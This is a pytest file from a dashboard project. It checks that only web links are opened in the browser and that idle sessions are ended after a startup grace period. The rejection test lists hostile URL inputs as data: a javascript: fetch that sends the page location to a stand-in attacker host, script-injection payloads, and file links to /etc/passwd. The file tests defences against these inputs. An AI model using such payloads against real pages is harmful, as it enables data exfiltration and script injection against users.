"""What a session's app may have the browser do, without a server or an app process."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from textual_serve.download_manager import DownloadManager

from queuectl.web.session import AppSession


class _Socket:
    """Records what would be sent to the page."""

    def __init__(self) -> None:
        self.sent: list[Any] = []

    async def send_str(self, text: str) -> None:
        self.sent.append(json.loads(text))


def _opened(url: str) -> list[Any]:
    socket = _Socket()
    session = AppSession(
        socket,  # type: ignore[arg-type]
        command=["true"],
        env={},
        downloads=DownloadManager(),
        redact=lambda text: text,
    )
    asyncio.run(session._on_meta({"type": "open_url", "url": url, "new_tab": True}))
    return socket.sent


@pytest.mark.parametrize("url", ["https://example.com/x", "HTTP://127.0.0.1:8000/"])
def test_a_web_link_is_opened_in_the_browser(url):
    assert _opened(url) == [["open_url", {"url": url, "new_tab": True}]]


@pytest.mark.parametrize(
    "url",
    [
        "javascript:fetch('//evil.example/?'+location)",
        " JavaScript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "vscode://file/etc/passwd",
        "//evil.example/",
    ],
)
def test_anything_else_is_not_handed_to_the_page(url):
    assert _opened(url) == []


class _Idle:
    """A session as the idle watch sees it: started or not, with no input since ``since``."""

    def __init__(self, *, started: bool, since: float) -> None:
        self.started = started
        self.last_input = since
        self.stopped: list[str] = []

    async def stop(self, reason: str) -> None:
        self.stopped.append(reason)


def test_a_dashboard_still_starting_is_not_ended_as_idle():
    """With ``--idle-timeout 1s`` a start slowed by a busy host (over a second) was
    ended before it began, and the tab said "The dashboard could not start"."""
    import time

    from queuectl.web.server import STARTING_GRACE, Sessions

    long_ago = time.monotonic() - 5
    starting = _Idle(started=False, since=long_ago)
    idle = _Idle(started=True, since=long_ago)
    stuck = _Idle(started=False, since=time.monotonic() - STARTING_GRACE - 1)
    sessions = Sessions(limit=8, idle_timeout=1.0)
    sessions.live.update({starting, idle, stuck})  # type: ignore[arg-type]

    async def watch() -> None:
        task = asyncio.create_task(sessions.end_idle_sessions())
        deadline = time.monotonic() + 10
        while not (idle.stopped and stuck.stopped) and time.monotonic() < deadline:
            await asyncio.sleep(0.01)
        task.cancel()

    asyncio.run(watch())
    assert idle.stopped == ["idle for 1s"]
    assert stuck.stopped == ["idle for 1s"]  # a start that never ends still ends
    assert starting.stopped == []
